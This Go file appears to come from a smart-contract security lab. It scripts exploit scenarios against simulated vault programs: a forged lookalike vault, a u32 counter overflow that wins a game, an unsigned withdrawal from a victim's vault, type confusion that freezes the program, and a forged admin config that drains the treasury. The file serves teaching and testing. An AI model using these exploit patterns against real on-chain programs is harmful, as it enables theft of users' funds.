package scenario

import (
	"fmt"

	"github.com/fortiblox/X1-Vaultlab/internal/types"
	"github.com/fortiblox/X1-Vaultlab/pkg/labs/vault"
	"github.com/fortiblox/X1-Vaultlab/pkg/labs/welcome"
	"github.com/fortiblox/X1-Vaultlab/pkg/runtime"
	"github.com/fortiblox/X1-Vaultlab/pkg/svm/programs/system"
)

func init() {
	register(Scenario{
		Name:        "welcome",
		Description: "greet a user, then send the instruction that always fails",
		run:         runWelcome,
	})
	register(Scenario{
		Name:        "deposit",
		Description: "deposit into a program vault, then into a lookalike vault owned by another program",
		run:         runDeposit,
	})
	register(Scenario{
		Name:        "game",
		Description: "lowest-vault game: deposit to the opponent, then try to win by overflowing the counter",
		run:         runGame,
	})
	register(Scenario{
		Name:        "freeze",
		Description: "admin freezes withdrawals, the user is refused, admin unfreezes, the user withdraws",
		run:         runFreeze,
	})
	register(Scenario{
		Name:        "forced-withdraw",
		Description: "a stranger closes a user's vault without the user's signature",
		run:         runForcedWithdraw,
	})
	register(Scenario{
		Name:        "type-confusion",
		Description: "a user hands their own vault to SetState as the config and freezes the program",
		run:         runTypeConfusion,
	})
	register(Scenario{
		Name:        "forged-config",
		Description: "an attacker presents a config record they wrote themselves and drains the treasury",
		run:         runForgedConfig,
	})
}

// Winner returns the player whose vault holds the lower counter. Ties go to
// the opponent.
func Winner(player, opponent types.Pubkey, playerVault, opponentVault vault.Vault) types.Pubkey {
	if playerVault.Amount < opponentVault.Amount {
		return player
	}
	return opponent
}

func runWelcome(e *Env, r *Report) error {
	greet, err := e.step(r, "welcome", nil, welcome.NewWelcome(types.WelcomeProgramAddr, "Blablador"))
	if err != nil {
		return err
	}
	noop, err := e.step(r, "noop", nil, welcome.NewNoOp(types.WelcomeProgramAddr))
	if err != nil {
		return err
	}
	r.Result = fmt.Sprintf("welcome %s, noop %s", errorKind(greet.Err), errorKind(noop.Err))
	return nil
}

func runDeposit(e *Env, r *Report) error {
	_, vaultAddr, err := e.NewPlayer()
	if err != nil {
		return err
	}
	if _, err := e.step(r, "deposit 500 into own vault", nil, e.Addrs.NewDeposit(vaultAddr, 500)); err != nil {
		return err
	}

	attacker, err := e.NewWallet(LamportsPerSOL)
	if err != nil {
		return err
	}
	forge, lookalike, err := NewForge(attacker.Pubkey(), "lookalike-vault", vault.Vault{Authority: attacker.Pubkey()}.Encode())
	if err != nil {
		return err
	}
	if _, err := e.step(r, "forge a lookalike vault", []*types.Keypair{attacker}, forge); err != nil {
		return err
	}
	foreign, err := e.step(r, "deposit 500 into the lookalike", nil, e.Addrs.NewDeposit(lookalike, 500))
	if err != nil {
		return err
	}

	v, err := e.Vault(vaultAddr)
	if err != nil {
		return err
	}
	fake, err := e.Vault(lookalike)
	if err != nil {
		return err
	}
	r.Exploited = foreign.OK()
	r.Result = fmt.Sprintf("vault amount %d, lookalike amount %d, foreign deposit: %s", v.Amount, fake.Amount, errorKind(foreign.Err))
	return nil
}

func runGame(e *Env, r *Report) error {
	player, playerVault, err := e.NewPlayer()
	if err != nil {
		return err
	}
	opponent, opponentVault, err := e.NewPlayer()
	if err != nil {
		return err
	}

	score := func() (vault.Vault, vault.Vault, error) {
		pv, err := e.Vault(playerVault)
		if err != nil {
			return pv, vault.Vault{}, err
		}
		ov, err := e.Vault(opponentVault)
		return pv, ov, err
	}

	if _, err := e.step(r, "deposit 500 to opponent", nil, e.Addrs.NewDepositToOpponent(playerVault, opponentVault, 500)); err != nil {
		return err
	}
	pv, ov, err := score()
	if err != nil {
		return err
	}
	honest := Winner(player.Pubkey(), opponent.Pubkey(), pv, ov)

	// 2 * 2^31 is 2^32, which is zero in a u32 counter.
	attack, err := e.step(r, "deposit 2^31 to opponent", nil, e.Addrs.NewDepositToOpponent(playerVault, opponentVault, 1<<31))
	if err != nil {
		return err
	}
	pv, ov, err = score()
	if err != nil {
		return err
	}
	winner := Winner(player.Pubkey(), opponent.Pubkey(), pv, ov)

	r.Exploited = attack.OK() && winner == player.Pubkey() && honest != player.Pubkey()
	r.Result = fmt.Sprintf("player %d, opponent %d, winner %s, overflow deposit: %s",
		pv.Amount, ov.Amount, role(winner, player.Pubkey()), errorKind(attack.Err))
	return nil
}

func role(winner, player types.Pubkey) string {
	if winner == player {
		return "player"
	}
	return "opponent"
}

func runFreeze(e *Env, r *Report) error {
	user, vaultAddr, err := e.NewPlayer()
	if err != nil {
		return err
	}
	if _, err := e.step(r, "fund vault with 1 SOL", []*types.Keypair{user}, transfer(user.Pubkey(), vaultAddr, LamportsPerSOL)); err != nil {
		return err
	}

	admin := []*types.Keypair{e.Admin}
	if _, err := e.step(r, "admin freezes", admin, e.Addrs.NewSetState(e.Admin.Pubkey(), e.Addrs.Config, vault.Frozen)); err != nil {
		return err
	}

	withdraw, err := runtime.NewTransaction([]runtime.Instruction{e.Addrs.NewWithdraw(user.Pubkey(), vaultAddr, true)}, user)
	if err != nil {
		return err
	}
	refused, err := e.stepTx(r, "user withdraws while frozen", withdraw)
	if err != nil {
		return err
	}

	if _, err := e.step(r, "admin unfreezes", admin, e.Addrs.NewSetState(e.Admin.Pubkey(), e.Addrs.Config, vault.Unfrozen)); err != nil {
		return err
	}
	retried, err := e.stepTx(r, "user retries the same withdrawal", withdraw)
	if err != nil {
		return err
	}

	left, err := e.Runtime.Balance(vaultAddr)
	if err != nil {
		return err
	}
	r.Result = fmt.Sprintf("frozen withdrawal: %s, retry: %s, vault balance %d", errorKind(refused.Err), errorKind(retried.Err), left)
	return nil
}

func runForcedWithdraw(e *Env, r *Report) error {
	victim, vaultAddr, err := e.NewPlayer()
	if err != nil {
		return err
	}
	if _, err := e.step(r, "victim funds vault with 1 SOL", []*types.Keypair{victim}, transfer(victim.Pubkey(), vaultAddr, LamportsPerSOL)); err != nil {
		return err
	}

	// Nobody signs: the stranger only needs to name the victim.
	attack, err := e.step(r, "stranger withdraws for the victim", nil, e.Addrs.NewWithdraw(victim.Pubkey(), vaultAddr, false))
	if err != nil {
		return err
	}
	left, err := e.Runtime.Balance(vaultAddr)
	if err != nil {
		return err
	}
	r.Exploited = attack.OK()
	r.Result = fmt.Sprintf("unsigned withdrawal: %s, vault balance %d", errorKind(attack.Err), left)
	return nil
}

func runTypeConfusion(e *Env, r *Report) error {
	mallory, vaultAddr, err := e.NewPlayer()
	if err != nil {
		return err
	}

	// The vault is program-owned; in the native layout its authority sits
	// exactly where a config keeps the admin.
	attack, err := e.step(r, "user freezes with their vault as config", []*types.Keypair{mallory},
		e.Addrs.NewSetState(mallory.Pubkey(), vaultAddr, vault.Frozen))
	if err != nil {
		return err
	}
	frozen, err := e.Frozen()
	if err != nil {
		return err
	}

	r.Exploited = attack.OK() && frozen
	r.Result = fmt.Sprintf("vault as config: %s, frozen %t", errorKind(attack.Err), frozen)
	return nil
}

func runForgedConfig(e *Env, r *Report) error {
	if _, err := e.step(r, "fill treasury with 10 SOL", []*types.Keypair{e.Admin},
		transfer(e.Admin.Pubkey(), e.Addrs.Treasury, 10*LamportsPerSOL)); err != nil {
		return err
	}

	hacker, err := e.NewWallet(LamportsPerSOL)
	if err != nil {
		return err
	}
	forge, forged, err := NewForge(hacker.Pubkey(), "config", vault.Config{Admin: hacker.Pubkey()}.Encode())
	if err != nil {
		return err
	}
	hackers := []*types.Keypair{hacker}
	if _, err := e.step(r, "hacker forges a config naming themselves admin", hackers, forge); err != nil {
		return err
	}

	before, err := e.Runtime.Balance(hacker.Pubkey())
	if err != nil {
		return err
	}
	attack, err := e.step(r, "hacker closes the contract with the forged config", hackers, e.Addrs.NewCloseContract(hacker.Pubkey(), forged))
	if err != nil {
		return err
	}
	after, err := e.Runtime.Balance(hacker.Pubkey())
	if err != nil {
		return err
	}

	r.Exploited = attack.OK() && after > before
	r.Result = fmt.Sprintf("forged close: %s, hacker gained %d lamports", errorKind(attack.Err), after-before)
	return nil
}

func transfer(from, to types.Pubkey, lamports uint64) runtime.Instruction {
	return runtime.Instruction{
		ProgramID: system.ProgramID,
		Accounts:  []runtime.AccountMeta{runtime.WritableSigner(from), runtime.Writable(to)},
		Data:      system.EncodeTransfer(lamports),
	}
}
